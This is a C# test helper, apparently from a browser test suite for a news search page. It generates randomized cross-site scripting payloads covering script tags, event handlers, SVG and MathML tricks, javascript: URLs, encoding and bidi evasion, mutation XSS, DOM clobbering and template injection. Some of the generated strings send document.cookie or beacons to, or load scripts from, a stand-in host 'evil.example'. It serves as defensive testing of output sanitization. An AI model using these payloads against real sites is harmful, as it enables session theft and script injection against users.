using System.Globalization;
using System.Text;

namespace SearchNews.Browser.Tests.Hostile;

/// <summary>
/// Text that turns into script where a page writes it carelessly, made from a grammar of the known kinds. What would run says so: it calls <c>alert</c>, or sets
/// <see cref="Canary"/>. Long because it is a table; a kind a line. One seed gives one list.
/// </summary>
internal sealed class HostilePayloads
{
    /// <summary>A property of the window, and an attribute of the document, that only a payload sets.</summary>
    public const string Canary = "ran";

    /// <summary>A payload is no longer than this, UTF-16 units, so that it is a query too.</summary>
    public const int MaxLength = 400;

    private static readonly string[] Events = ["onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onbegin", "onpointerenter", "onanimationstart", "onscroll", "OnErRoR", "onerror\n"];
    private static readonly string[] Blanks = [" ", "\t", "\n", "/", "\f", "\r\n", "/**/", " / ", "\u00a0", "\0"];
    private static readonly string[] Quotes = ["\"", "'", "`", ""];
    private static readonly string[] Elements = ["img", "svg", "body", "video", "audio", "input", "details", "marquee", "iframe", "object", "embed", "math", "x", "custom-element", "select", "button", "frameset", "image", "keygen", "isindex"];
    private static readonly string[] Raw = ["title", "textarea", "style", "script", "noscript", "xmp", "noembed", "noframes", "plaintext", "iframe", "template", "option", "select", "math", "svg"];
    private static readonly string[] Names = ["ran", "document", "body", "forms", "q", "cookie", "getElementById", "querySelector", "location", "attributes", "parentNode", "config", "results", "__proto__", "constructor", "addEventListener", "trustedTypes", "history"];

    private readonly Random _random;
    private readonly Func<string>[] _kinds;

    private HostilePayloads(Random random)
    {
        _random = random;
        _kinds =
        [
            ScriptTag, Handler, Handler, Svg, Math, LinkUrl, LinkUrl, Entity, Entity, BrokenTag, BrokenTag, Attribute, Attribute, Template, Style, NullBytes, OtherEncoding, Bidi, Mutation, Mutation,
            Clobbering, Srcset, Meta, Base, Frame, Cdata, Comment, RawTextEnd, RawTextEnd, ScriptString, ScriptString, Json, Url, Mark, Nested,
        ];
    }

    /// <summary>Different payloads, as many as asked for, no kind left out when there are more than kinds.</summary>
    public static IReadOnlyList<string> Generate(Random random, int count)
    {
        var payloads = new HostilePayloads(random);
        var made = new HashSet<string>(StringComparer.Ordinal);
        for (int i = 0; made.Count < count; i++)
        {
            string payload = payloads._kinds[i % payloads._kinds.Length]();
            if (payload.Length <= MaxLength) made.Add(payload);
        }

        return [.. made];
    }

    // What runs when it runs.
    private string Code() => Pick(
        "alert(1)", "alert`1`", "(alert)(1)", "window.ran=1", "top.ran=1", "self['al'+'ert'](1)", "document.documentElement.setAttribute('ran',1)", "[1].find(alert)", "eval('ran=1')",
        "Function('ran=1')()", "setTimeout('ran=1')", "import('http://evil.example/x.js')", "fetch('http://evil.example/?'+document.cookie)", "location='javascript:ran=1'",
        "new Image().src='http://evil.example/'", "\\u0061lert(1)", "confirm(document.domain)", "throw onerror=alert,1", "navigator.sendBeacon('http://evil.example/')");

    private string ScriptTag() => Pick(
        $"<script>{Code()}</script>", $"<{Case("script")}{Blank()}>{Code()}</{Case("script")}{Blank()}>", $"<script{Blank()}src={Quoted("http://evil.example/x.js")}></script>",
        $"<script{Blank()}src={Quoted("data:text/javascript," + Code())}></script>", $"<script type=module>{Code()}</script>", $"<script>{Code()}//", $"<script\n>{Code()}</script\n>",
        $"<script type=importmap>{{\"imports\":{{\"/app.js\":\"data:text/javascript,{Code()}\"}}}}</script>", $"<script nonce=\"\" defer>{Code()}</script>",
        $"<svg><script>{Code()}</script>", $"<svg><script href={Quoted("data:," + Code())} />", $"<script x=\">\">{Code()}</script>");

    private string Handler() => Pick(
        $"<{Pick(Elements)}{Blank()}src=x{Blank()}{Pick(Events)}={Quoted(Code())}>", $"<{Pick(Elements)}{Blank()}{Pick(Events)}={Code()} autofocus tabindex=1>",
        $"<details open ontoggle={Quoted(Code())}>", $"<input autofocus onfocus={Quoted(Code())}>", $"<video><source onerror={Quoted(Code())}>", $"<body onload={Quoted(Code())}>",
        $"<img src=x:x {Pick(Events)}={Code()} //", $"<a onclick={Quoted(Code())}>click</a>", $"<div style=\"animation:x\" onanimationend={Quoted(Code())}>", $"<xss contenteditable {Pick(Events)}={Code()}>");

    private string Svg() => Pick(
        $"<svg{Blank()}onload={Quoted(Code())}>", $"<svg><animate onbegin={Quoted(Code())} attributeName=x dur=1s>", $"<svg><set attributeName=href to=\"javascript:{Code()}\"><text>x</text></svg>",
        $"<svg><a xlink:href=\"javascript:{Code()}\"><text y=20>x</text></a></svg>", $"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{Code()}</script></svg>#x\">",
        $"<svg><foreignObject><iframe srcdoc=\"<script>{Code()}</script>\"></foreignObject></svg>", $"<svg><title><style><img src=x onerror={Code()}></style></title></svg>",
        $"<svg/onload={Code()}//", $"<svg><image href=x onerror={Quoted(Code())} /></svg>", $"<?xml-stylesheet href=\"javascript:{Code()}\"?><svg/>");

    private string Math() => Pick(
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Code()}&gt;\">", $"<math href=\"javascript:{Code()}\">x</math>",
        $"<math><maction actiontype=\"statusline\" xlink:href=\"javascript:{Code()}\">x</maction></math>", $"<math><annotation-xml encoding=\"text/html\"><img src=x onerror={Code()}></annotation-xml></math>");

    private string LinkUrl() => Pick(
        $"<a href={Quoted(Scheme() + Code())}>x</a>", $"<a href={Quoted(Scheme() + Code())} target=_blank rel=opener>x</a>", $"<form action={Quoted(Scheme() + Code())}><button>x</button></form>",
        $"<button formaction={Quoted(Scheme() + Code())}>x</button>", $"<area href={Quoted(Scheme() + Code())}>", $"<embed src={Quoted(Scheme() + Code())}>", $"<object data={Quoted(Scheme() + Code())}></object>",
        $"<a href=\"data:text/html;base64,{Convert.ToBase64String(Encoding.ASCII.GetBytes($"<script>{Code()}</script>"))}\">x</a>", $"<link rel=stylesheet href={Quoted("http://evil.example/x.css")}>",
        $"<a ping=\"http://evil.example/\" href=\"/\">x</a>");

    private string Entity() => Pick(
        $"&lt;script&gt;{Code()}&lt;/script&gt;", $"&amp;lt;script&amp;gt;{Code()}&amp;lt;/script&amp;gt;", $"&amp;amp;lt;img src=x onerror={Code()}&amp;amp;gt;", $"&#60;img src=x onerror={Code()}&#62;",
        $"&#x3c;svg onload={Code()}&#x3E;", $"&#0000060script&#0000062{Code()}", $"&LT;script&GT;{Code()}&LT;/script&GT;", $"&lt;img src=x onerror=&quot;{Code()}&quot;&gt;", $"&quot;&gt;&lt;svg onload={Code()}&gt;",
        $"<img src=x onerror=\"{Numeric(Code())}\">", $"<a href=\"&#106;avascript&colon;{Code()}\">x</a>", $"&#x26;#60;script&#x26;#62;{Code()}", $"&ltscript&gt{Code()}&lt/script&gt", $"&NewLine;&Tab;<svg onload&equals;{Code()}>");

    private string BrokenTag() => Pick(
        $"<img src=x onerror={Code()}", $"<img \"\"\"><script>{Code()}</script>\">", $"<<script>{Code()}//<</script>", $"<scr<script>ipt>{Code()}</scr</script>ipt>", $"<script/{Code()}", $"<img src=\"x\" onerror=\"{Code()}",
        $"<img src='x' onerror='{Code()}' <b", $"</p onclick={Code()}>", $"<a<img src=x onerror={Code()}>", $"<\u0130mg src=x onerror={Code()}>", $"< script >{Code()}</ script >", $"<\0script>{Code()}</script>",
        $"<img src=x onerror\u2028={Code()}>", $"\uff1cscript\uff1e{Code()}\uff1c/script\uff1e", $"<!DOCTYPE html><img src=x onerror={Code()}>", $"</><img src=x onerror={Code()}>", $"<svg<svg onload={Code()}>");

    private string Attribute() => Pick(
        $"{Pick(Quotes)}{Blank()}{Pick(Events)}={Code()}{Blank()}x={Pick(Quotes)}", $"{Pick(Quotes)}><svg onload={Code()}>", $"{Pick(Quotes)} autofocus onfocus={Code()} x=", $"x{Pick(Quotes)} style={Quoted("position:fixed;inset:0")} onmouseover={Quoted(Code())}",
        $"\" srcdoc=\"<script>{Code()}</script>", $"' formaction='javascript:{Code()}' type='submit", $"\"/><img src=x onerror={Code()}>", $"\" accesskey=x onclick=\"{Code()}", $"`-{Code()}-`", $"x\" id=\"{Pick(Names)}\" data-x=\"", $"\\\" onerror=\\\"{Code()}");

    private string Template() => Pick(
        $"{{{{{Code()}}}}}", $"{{{{constructor.constructor('{Code()}')()}}}}", $"${{{Code()}}}", $"<%= {Code()} %>", $"#{{{Code()}}}", $"@({Code()})", $"@{{ {Code()}; }}", $"{{% raw %}}<script>{Code()}</script>{{% endraw %}}", $"[[${{{Code()}}}]]",
        $"<template><img src=x onerror={Code()}></template>", $"<template shadowrootmode=open><script>{Code()}</script></template>", $"<div v-html=\"'<img src=x onerror={Code()}>'\"></div>", $"<x ng-app>{{{{$on.constructor('{Code()}')()}}}}</x>",
        $"{{0}} {{1:x}} %s %d {Code()}", $"$& $` $' $1 $<name> <svg onload={Code()}>");

    private string Style() => Pick(
        $"<style>@import 'http://evil.example/x.css';</style>", $"<style>*{{background:url(javascript:{Code()})}}</style>", $"<div style=\"background:url('http://evil.example/x.png')\">x</div>", $"<div style=\"width:expression({Code()})\">",
        $"</style><script>{Code()}</script>", $"<style>body{{display:none}}</style>", $"<link rel=stylesheet href=\"data:text/css,*{{display:none}}\">", $"\"style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onclick=\"{Code()}",
        $"<style><img src=\"</style><img src=x onerror={Code()}//\">", $"red;}} body{{background:url(//evil.example/{Numeric("x")})}}");

    private string NullBytes() => Pick(
        $"<scr\0ipt>{Code()}</scr\0ipt>", $"<img src=x o\0nerror={Code()}>", $"\0<svg onload={Code()}>", $"java\0script:{Code()}", $"<\0img src=x onerror={Code()}>", $"\u0001\u0002\u001f<svg onload={Code()}>\u007f", $"<svg\0onload={Code()}>", $"%00<svg onload={Code()}>");

    // As far as text can hold it: what a browser would read as another encoding, and bytes that were taken for Latin-1.
    private string OtherEncoding() => Pick(
        $"+ADw-script+AD4-{Code()}+ADw-/script+AD4-", $"+ADwAcwBjAHIAaQBwAHQAPg-{Code()}", $"\u00c0\u00bcscript\u00c0\u00be{Code()}\u00c0\u00bc/script\u00c0\u00be", $"%C0%BCsvg onload={Code()}%C0%BE", $"\u00e0\u0080\u00bcsvg onload={Code()}>",
        $"%3Cscript%3E{Code()}%3C/script%3E", $"%253Csvg%2520onload={Code()}%253E", $"\\u003cscript\\u003e{Code()}\\u003c/script\\u003e", $"\\x3csvg onload={Code()}\\x3e", $"~{{<script>{Code()}</script>~}}", $"\ufeff<svg onload={Code()}>", $"\u00bc\u00f3\u00e3script\u00be{Code()}",
        $"<meta charset=utf-7>+ADw-script+AD4-{Code()}", $"\ufffd<svg onload={Code()}>", $"\u2039script\u203a{Code()}");

    private string Bidi() => Pick(
        $"\u202e<svg onload={Code()}>\u202c", $"\u202etpircs\u202c<script>{Code()}</script>", $"\u2066<img src=x onerror={Code()}>\u2069", $"\u200f\u200e<svg\u200bonload={Code()}>", $"<svg\u00adonload={Code()}>", $"\u2067\u202b\"><svg onload={Code()}>", $"{new string('\u0301', 40)}<svg onload={Code()}>", $"\U000e0001\U000e0073<svg onload={Code()}>");

    // Harmless as it is read first, not after it was written out and read again.
    private string Mutation() => Pick(
        $"<noscript><p title=\"</noscript><img src=x onerror={Code()}>\">", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Code()}>", $"<svg></p><style><a id=\"</style><img src=1 onerror={Code()}>\">", $"<listing>&lt;img src=x onerror={Code()}&gt;</listing>",
        $"<math><mi><style><!--</style><img src=x onerror={Code()}>--></style>", $"<table><td><style><a title=\"</style><img src onerror={Code()}>\">", $"<xmp><p title=\"</xmp><svg/onload={Code()}>\">", $"<svg><p><style><g title=\"</style><img src=x onerror={Code()}>\">",
        $"<img alt=\"`><img src=x onerror={Code()}`\">", $"<select><iframe></select><img src=x onerror={Code()}>", $"<p id=\"</title><svg/onload={Code()}>\"><title>", $"<a href=\"\u0001java\u0002script:{Code()}\">x</a>", $"<option><style></option></select><img src=x onerror={Code()}></style>");

    private string Clobbering() => Pick(
        $"<a id={Pick(Names)}><a id={Pick(Names)} name=x href=\"javascript:{Code()}\">", $"<form id={Pick(Names)}><input name={Pick(Names)}></form>", $"<img name={Pick(Names)}>", $"<iframe name={Pick(Names)} srcdoc=\"<a id=x href='cid:{Code()}'></a>\"></iframe>", $"<object id={Pick(Names)}></object>",
        $"<input id={Pick(Names)} name=attributes form={Pick(Names)}>", $"{Pick(Names)}", $"{Pick(Names)}.{Pick(Names)}[{Code()}]", $"<base id={Pick(Names)}><output name={Pick(Names)}>{Code()}</output>");

    private string Srcset() => Pick(
        $"<img srcset=\"x 1x, javascript:{Code()} 2x\" onerror={Code()}>", $"<picture><source srcset=x onerror={Code()}><img onerror={Code()}></picture>", $"<img srcset=,, sizes=\"(\" onerror={Quoted(Code())}>", $"x 1x, http://evil.example/y.png 2x\" onerror=\"{Code()}", $"<video poster=javascript:{Code()}>", $"<link rel=preload as=image imagesrcset=http://evil.example/>");

    private string Meta() => Pick(
        $"<meta http-equiv=refresh content=\"0;url=javascript:{Code()}\">", $"<meta http-equiv=\"refresh\" content=\"0; URL=http://evil.example/{Numeric("x")}\">", $"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{Code()}</script>", $"<meta name=referrer content=unsafe-url><img src=http://evil.example/{Pick(Names)}>",
        $"<meta http-equiv=set-cookie content=\"{Pick(Names)}=1\">", $"<meta name=viewport content=\"width={_random.Next(1, 9999)}\">");

    private string Base() => Pick($"<base href=\"http://evil.example/{Pick(Names)}/\">", $"<base href=\"javascript:{Code()}//\">", $"<base target=\"{Code()}\"><a href=x>x</a>", $"<base href=//evil.example:{_random.Next(1, 65535)}>");

    private string Frame() => Pick(
        $"<iframe src={Quoted(Scheme() + Code())}></iframe>", $"<iframe srcdoc={Quoted($"&lt;script&gt;{Code()}&lt;/script&gt;")}></iframe>", $"<iframe onload={Code()}></iframe>", $"<frameset onload={Code()}><frame src=\"http://evil.example/\">", $"<portal src=http://evil.example onload={Code()}>", $"<fencedframe src=http://evil.example/{Pick(Names)}>",
        $"<object type=text/html data=\"data:text/html,<script>{Code()}</script>\">", $"<applet code=\"javascript:{Code()}\">", $"<embed type=image/svg+xml src=\"data:image/svg+xml,<svg onload={Code()}>\">");

    private string Cdata() => Pick($"<![CDATA[<script>{Code()}</script>]]>", $"]]><script>{Code()}</script>", $"<svg><![CDATA[><img src=x onerror={Code()}>]]>", $"<!ENTITY x SYSTEM \"http://evil.example/{Pick(Names)}\">&x;", $"<?php {Code()} ?>", $"<!DOCTYPE x [<!ENTITY y \"{Code()}\">]>&y;");

    private string Comment() => Pick($"<!--><svg onload={Code()}>-->", $"<!--[if gte IE 4]><script>{Code()}</script><![endif]-->", $"--><svg onload={Code()}>", $"<!-- --!><img src=x onerror={Code()}>", $"<!--<img src=\"--><img src=x onerror={Code()}//\">", $"/*--></script><svg onload={Code()}>*/", $"<!---><img src=x onerror={Code()}>", $"<! foo=\"><script>{Code()}</script>\">");

    private string RawTextEnd() => Pick(
        $"</{Pick(Raw)}><script>{Code()}</script>", $"</{Case(Pick(Raw))}{Blank()}><svg onload={Code()}>", $"</{Pick(Raw)}></{Pick(Raw)}><img src=x onerror={Code()}>", $"<{Pick(Raw)}><img src=x onerror={Code()}>", $"<plaintext>{Code()}", $"</head><body onload={Code()}>", $"</body></html><svg onload={Code()}>");

    private string ScriptString() => Pick(
        $"\";{Code()};//", $"';{Code()};//", $"\\\";{Code()};//", $"'-{Code()}-'", $"\"+{Code()}+\"", $"</script><script>{Code()}</script>", $"\\u0022;{Code()}//", $"\u2028{Code()}\u2029", $"*/{Code()}/*", $"\n{Code()}\n", $"${{`{Code()}`}}", $"<!--<script>\";{Code()}", $"\\';{Code()}//", $"]]}});{Code()};({{[[");

    private string Json() => Pick($"\"}},\"x\":\"<svg onload={Code()}>\",{{\"", $"{{\"__proto__\":{{\"{Canary}\":{_random.Next(9999)},\"innerHTML\":\"<img src=x onerror={Code()}>\"}}}}", $"[\"</script><svg onload={Code()}>\"]", $"\\\\\";{Code()}", $"{{\"html\":\"<b onclick={Code()}>\"}}");

    // What may be taken for an address.
    private string Url() => Pick(
        Scheme() + Code(), $"{Scheme()}{Code()}//http://example.com/", $"http://evil.example/\"onerror=\"{Code()}", $"https://evil.example/'><svg/onload={Code()}>", $"//evil.example/{Pick(Names)}", $"\\\\evil.example\\{Pick(Names)}", $"/\\evil.example/{Pick(Names)}", $"http:evil.example/{Pick(Names)}?{Code()}", $"https://user:{Code()}@evil.example/", $"http://[::1]\"><svg onload={Code()}>",
        $"https://example.com/#<svg onload={Code()}>", $"https://example.com/?q=<script>{Code()}</script>", $"https://example.com/ onerror={Code()} ", $"https://example.com/a b'c\"d`e<{Pick(Names)}>", $"http://\u0435vil.example/{Code()}");

    // The one element that may come from text, with more than it may have.
    private string Mark() => Pick($"<mark onclick={Quoted(Code())}>x</mark>", $"<mark><script>{Code()}</script></mark>", $"&lt;mark&gt;<svg onload={Code()}>&lt;/mark&gt;", $"</mark><img src=x onerror={Code()}><mark>", $"<mark id={Pick(Names)}>x</mark>", $"<mark/onload={Code()}", $"\u0001mark\u0001<svg onload={Code()}>");

    private string Nested()
    {
        string inner = _kinds[_random.Next(_kinds.Length - 1)]();
        return Pick($"<b>{inner}</b>", $"<svg>{inner}", $"\">{inner}", $"</title>{inner}", $"<div title='{inner}'>", $"<iframe srcdoc=\"{inner}\">", $"<!--{inner}-->", $"{inner}{inner}");
    }

    private string Scheme() => Pick(
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "javascript&#58;", "&#x6a;avascript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "vbscript:", "blob:", "filesystem:", "view-source:javascript:", "feed:javascript:",
        "javascript://example.com/%0a", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+", "\u202ejavascript:", "ftp://", "file:///", "intent:", "jar:", "ws://");

    private string Blank() => Pick(Blanks);

    private string Quoted(string text)
    {
        string quote = Pick(Quotes);
        return quote + text + quote;
    }

    private string Case(string text) => string.Concat(text.Select(c => _random.Next(2) == 0 ? char.ToUpperInvariant(c) : c));

    private string Numeric(string text) => string.Concat(text.Select(c => _random.Next(3) switch
    {
        0 => string.Create(CultureInfo.InvariantCulture, $"&#{(int)c};"),
        1 => string.Create(CultureInfo.InvariantCulture, $"&#x{(int)c:x};"),
        _ => string.Create(CultureInfo.InvariantCulture, $"&#{(int)c:d7};"),
    }));

    private string Pick(params ReadOnlySpan<string> values) => values[_random.Next(values.Length)];
}
